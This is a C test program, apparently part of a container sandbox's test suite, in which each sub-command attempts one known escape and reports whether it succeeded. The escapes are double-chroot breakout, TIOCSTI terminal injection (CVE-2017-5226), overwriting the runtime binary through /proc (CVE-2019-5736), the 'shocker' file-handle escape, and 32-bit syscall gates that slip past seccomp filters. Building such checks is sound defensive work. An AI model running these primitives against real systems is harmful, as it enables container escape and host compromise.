/*
 * What a hostile payload tries, one attempt per sub-command. Each prints "done" when it got what it wanted, else the
 * name of the call and errno. Built as a static program by the tests and bound into the container.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <grp.h>
#include <time.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int failed(const char *call)
{
    printf("%s %s\n", call, strerrorname_np(errno));
    return 1;
}

static int done(void)
{
    puts("done");
    return 0;
}

/* chroot twice, keeping a directory outside the second root, then walk up (the escape of every chroot FAQ). */
static int double_chroot(const char *witness)
{
    mkdir("/escape", 0755);
    int outside = open(".", O_RDONLY | O_DIRECTORY);
    if (outside < 0)
        return failed("open");
    if (chroot("/escape") != 0)
        return failed("chroot");
    if (fchdir(outside) != 0)
        return failed("fchdir");
    for (int i = 0; i < 256; i++)
        if (chdir("..") != 0)
            return failed("chdir");
    if (chroot(".") != 0)
        return failed("second chroot");
    return access(witness, F_OK) == 0 ? done() : failed("access");
}

static int descriptors(void)
{
    DIR *directory = opendir("/proc/self/fd");
    if (directory == NULL)
        return failed("opendir");
    for (struct dirent *entry; (entry = readdir(directory)) != NULL;)
        if (entry->d_name[0] != '.' && atoi(entry->d_name) != dirfd(directory))
            printf("%s\n", entry->d_name);
    return 0;
}

/* socketcall(2) by the 32-bit system call gate: no filter of the 64-bit ABI sees its arguments. */
static int i386_call(void)
{
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(20 /* getpid of i386 */) : "memory", "r8", "r9", "r10", "r11");
    if (result > 0)
        return done();
    errno = (int)-result;
    return failed("int80");
}

static int x32_call(void)
{
    if (syscall(0x40000000 | 39 /* getpid */) > 0)
        return done();
    return failed("x32");
}

static int open_for(const char *path, int flags)
{
    int fd = open(path, flags | O_NONBLOCK);
    if (fd < 0)
        return failed("open");
    if (flags == O_RDONLY)
    {
        char byte;
        return read(fd, &byte, 1) == 1 ? done() : failed("read");
    }
    return write(fd, "1", 1) == 1 ? done() : failed("write");
}

/* Types into the terminal on descriptor 0 (CVE-2017-5226). */
static int tiocsti(unsigned long request)
{
    char byte = 'x';
    return ioctl(0, request, &byte) == 0 ? done() : failed("ioctl");
}

static int abstract_socket(const char *name)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
    socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
    return connect(fd, (struct sockaddr *)&address, length) == 0 ? done() : failed("connect");
}

static int new_user_namespace_by_clone(void)
{
    long pid = syscall(SYS_clone, CLONE_NEWUSER | 17 /* SIGCHLD */, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    return pid > 0 ? done() : failed("clone");
}

static int leave_cgroup_mount(const char *type)
{
    mkdir("/cg", 0755);
    return mount("none", "/cg", type, 0, type[6] == 0 ? "memory" : NULL) == 0 ? done() : failed("mount");
}

static int real_time(void)
{
    struct sched_param parameter = {.sched_priority = 50};
    return sched_setscheduler(0, SCHED_FIFO, &parameter) == 0 ? done() : failed("sched_setscheduler");
}

/*
 * CVE-2019-5736 from the side: waits until some process in here is the program named so, holds that program open, and
 * tries to write to it, also after its end.
 */
static int hunt(const char *name)
{
    char path[64], target[256];
    const char *seen = "never";
    time_t end = time(NULL) + 5;
    while (time(NULL) < end) {
        for (int pid = 2; pid < 200; pid++) {
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t length = readlink(path, target, sizeof target - 1);
            if (length < 0)
                continue;
            target[length] = 0;
            if (strstr(target, name) == NULL)
                continue;
            int held = open(path, O_PATH);
            if (held < 0)
                continue;
            snprintf(path, sizeof path, "/proc/self/fd/%d", held);
            for (int tries = 0; tries < 2000; tries++) {
                int file = open(path, O_WRONLY);
                if (file < 0) {
                    seen = strerrorname_np(errno);
                    continue;
                }
                ssize_t put = write(file, "#!", 2);
                seen = put > 0 ? "done" : strerrorname_np(errno);
                close(file);
                break;
            }
            close(held);
            if (!strcmp(seen, "done"))
                return done();
        }
    }
    printf("hunted %s\n", seen);
    return 0;
}

/* Groups of the host that a process kept could be dropped to get around a file that denies them (CVE-2014-8989). */
static int groups(void)
{
    gid_t list[64];
    int count = getgroups(64, list);
    for (int i = 0; i < count; i++)
        printf("%u ", list[i]);
    printf("%s\n", setgroups(0, NULL) == 0 ? "dropped" : strerrorname_np(errno));
    return 0;
}

/* A user namespace of one's own, and its gid_map without having given setgroups away. */
static int map_groups(void)
{
    char map[32];
    int length = snprintf(map, sizeof map, "0 %d 1", (int)getgid());
    if (unshare(CLONE_NEWUSER) != 0)
        return failed("unshare");
    int file = open("/proc/self/gid_map", O_WRONLY);
    return write(file, map, (size_t)length) == length ? done() : failed("write");
}

/* A chroot that was not entered by pivot_root: below the root lies what was the root before. */
static int below_root(const char *witness)
{
    int mounts = open("/proc/self/ns/mnt", O_RDONLY);
    if (mounts < 0)
        return failed("open");
    if (umount2("/", MNT_DETACH) != 0)
        return failed("umount2");
    /* Entering one's own mount namespace anew gives its root: what was below. */
    if (setns(mounts, CLONE_NEWNS) != 0)
        return failed("setns");
    return access(witness, F_OK) == 0 ? done() : failed("access");
}

int main(int count, char **argument)
{
    const char *what = count > 1 ? argument[1] : "";
    const char *with = count > 2 ? argument[2] : "";
    setvbuf(stdout, NULL, _IONBF, 0);
    if (!strcmp(what, "double-chroot"))
        return double_chroot(with);
    if (!strcmp(what, "plain-chroot"))
        return chroot(with) == 0 && chdir("/") == 0 ? double_chroot(argument[3]) : failed("chroot");
    if (!strcmp(what, "descriptors"))
        return descriptors();
    if (!strcmp(what, "mknod"))
        return mknod("/node", S_IFBLK | 0600, makedev(8, 0)) == 0 ? done() : failed("mknod");
    if (!strcmp(what, "mknod-mem"))
        return mknod("/dev/node", S_IFCHR | 0600, makedev(1, 1)) == 0 ? done() : failed("mknod");
    if (!strcmp(what, "mount"))
        return mount("none", "/mnt", with, 0, NULL) == 0 ? done() : failed("mount");
    if (!strcmp(what, "umount"))
        return umount2(with, MNT_DETACH) == 0 ? done() : failed("umount2");
    if (!strcmp(what, "cgroup"))
        return leave_cgroup_mount(with);
    if (!strcmp(what, "socket"))
        return socket(atoi(with), SOCK_SEQPACKET, 0) >= 0 ? done() : failed("socket");
    if (!strcmp(what, "raw-socket"))
        return socket(AF_INET, SOCK_RAW, 1) >= 0 ? done() : failed("socket");
    if (!strcmp(what, "abstract"))
        return abstract_socket(with);
    if (!strcmp(what, "i386"))
        return i386_call();
    if (!strcmp(what, "x32"))
        return x32_call();
    if (!strcmp(what, "syscall"))
        return syscall(atol(with), 0, 0, 0, 0, 0, 0) >= 0 ? done() : failed("syscall");
    if (!strcmp(what, "read"))
        return open_for(with, O_RDONLY);
    if (!strcmp(what, "write"))
        return open_for(with, O_WRONLY);
    if (!strcmp(what, "setuid"))
        return setuid(0) == 0 ? done() : failed("setuid");
    if (!strcmp(what, "ids"))
        return printf("%d %d\n", (int)getuid(), (int)geteuid()) < 0;
    if (!strcmp(what, "tiocsti"))
        return tiocsti(TIOCSTI);
    if (!strcmp(what, "tiocsti-high"))
        return tiocsti(TIOCSTI | (1UL << 32));
    if (!strcmp(what, "unshare-user"))
        return unshare(CLONE_NEWUSER) == 0 ? done() : failed("unshare");
    if (!strcmp(what, "clone-user"))
        return new_user_namespace_by_clone();
    if (!strcmp(what, "hostname"))
        return sethostname("evil", 4) == 0 ? done() : failed("sethostname");
    if (!strcmp(what, "real-time"))
        return real_time();
    if (!strcmp(what, "nice"))
        return errno = 0, nice(-5) == -1 && errno != 0 ? failed("nice") : done();
    if (!strcmp(what, "handle"))
    {
        /* The handle of the root inode, as the "shocker" escape guessed it. */
        struct { struct file_handle handle; unsigned char bytes[8]; } root = {{8, 1}, {2, 0, 0, 0, 0, 0, 0, 0}};
        return open_by_handle_at(open("/", O_RDONLY), &root.handle, O_RDONLY) >= 0 ? done() : failed("open_by_handle_at");
    }
    if (!strcmp(what, "hunt"))
        return hunt(with);
    if (!strcmp(what, "groups"))
        return groups();
    if (!strcmp(what, "map-groups"))
        return map_groups();
    if (!strcmp(what, "below-root"))
        return below_root(with);
    if (!strcmp(what, "exe"))
    {
        /* CVE-2019-5736: writing the program that started us, through init or ourselves. */
        int fd = open(with, O_WRONLY | O_TRUNC);
        return fd >= 0 ? done() : failed("open");
    }
    fprintf(stderr, "unknown: %s\n", what);
    return 2;
}
